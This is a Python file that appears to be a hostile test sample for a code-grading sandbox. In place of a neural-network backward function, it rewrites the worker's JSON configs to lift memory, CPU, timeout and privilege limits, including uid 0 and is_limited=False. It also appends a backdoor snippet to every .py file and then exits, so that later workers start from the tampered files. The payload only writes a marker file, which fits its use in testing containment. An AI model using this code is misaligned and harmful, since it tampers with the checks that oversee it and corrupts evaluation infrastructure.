"""rewrites the worker's config, cells, copied modules and framework in its folder (more memory, no hiding, uid
0) and dies, hoping the next worker starts from them

attacks: backward
earns nothing in: checks that call the backward or train the net
containment: isolated
"""
import json, os, sys  # noqa: E401
def TARGET_BACKWARD(dout, cache):

    folders = {os.getcwd(), os.path.dirname(os.path.abspath(sys.argv[0] or '.'))}
    folders |= {os.path.dirname(m.__file__) for m in list(sys.modules.values())
                if getattr(m, '__file__', None) and m.__name__ in ('wire', 'side', 'cs231n')}
    backdoor = ("\ntry:\n    open('/tmp/bnkit-hostile-NAME-ran-as-%d' % __import__('os').getuid(), 'w').close()\n"
                "except OSError:\n    pass\n")
    for folder in folders:
        for top, dirs, files in os.walk(folder):
            for name in files:
                path = os.path.join(top, name)
                try:
                    if name.endswith('.json'):
                        with open(path) as f:
                            data = json.load(f)
                        if isinstance(data, dict):
                            data.update(memory_mb=1 << 20, cpu_seconds=1 << 20, call_timeout=1e6, uid=0, gid=0,
                                        hide=[], is_limited=False)
                        elif isinstance(data, list):
                            data.append({'label': 'mine', 'source': backdoor})
                        with open(path, 'w') as f:
                            json.dump(data, f)
                    elif name.endswith('.py'):
                        with open(path, 'a') as f:
                            f.write(backdoor)
                except (OSError, ValueError):
                    pass
    os._exit(3)
